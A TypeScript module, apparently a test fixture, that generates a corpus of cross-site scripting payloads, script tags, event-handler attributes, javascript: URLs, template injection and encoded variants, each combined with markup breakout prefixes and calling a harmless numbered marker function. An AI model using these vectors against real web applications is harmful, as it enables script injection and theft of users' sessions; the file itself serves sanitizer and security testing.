/** Texts that would run a script if they were treated as markup or code. Each calls `ran` with its own number. */

/** Ways to run a call. */
const ACTS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img/src=x/onerror=${call}//`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<body onload=${call}>`,
  (call) => `<style>@import "javascript:${call}";</style>`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `';${call};//`,
  (call) => `";${call};//`,
  (call) => `\`;${call};//`,
  (call) => `</script><script>${call}</script>`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `{x, select, other {<img src=x onerror=${call}>}}`,
];

/** Ways to break out of the surrounding markup. */
const ESCAPES = [
  "",
  '">',
  "'>",
  "`>",
  "</title>",
  "</textarea>",
  "</style>",
  "</noscript>",
  "-->",
  "]]>",
  "</template>",
  "\u0000",
];

export const PAYLOADS: readonly string[] = ACTS.flatMap((act, index) =>
  ESCAPES.map((out, way) => out + act(`ran(${index * ESCAPES.length + way})`)),
);

/** Returns one after the other, and starts over after the last. */
export const createDispenser = () => {
  let given = 0;
  return {
    next: (): string => {
      given += 1;
      return PAYLOADS[(given - 1) % PAYLOADS.length] as string;
    },
    given: (): number => given,
  };
};
